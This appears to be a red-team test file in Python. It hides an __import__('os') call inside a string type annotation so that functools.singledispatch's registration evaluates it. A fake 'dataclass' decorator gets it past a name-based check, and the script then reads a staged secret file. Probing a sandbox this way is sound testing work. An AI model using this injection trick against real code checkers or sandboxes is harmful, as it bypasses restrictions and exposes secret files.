# family: red team, round 9 (register_instance_fake_dataclass_decorator)
# register(M()) needs M to "make objects": a class whose decorators are only dataclass/total_ordering, judged
# by the decorator's NAME. A function of the tool called dataclass replaces the class by a factory returning a
# function with a run-time string annotation, which register() evaluates (typing.get_type_hints -> eval).
import functools

SINK = []


def _d(word):
    u = "_"
    return u + u + word + u + u


CODE = "[SINK.append(" + _d("import") + "('os')), int][1]"


def target(value: CODE) -> None:
    return None


def dataclass(cls):
    return lambda: target


@dataclass
class Maker:
    pass


@functools.singledispatch
def dispatch(value):
    return value


def run():
    dispatch.register(Maker())
    osmod = SINK[0]
    fd = osmod.open("/tmp/r9/work/secret.txt", osmod.O_RDONLY)
    text = osmod.read(fd, 100).decode().strip()
    osmod.close(fd)
    return type(osmod).__name__, osmod.getpid(), text


print(run())
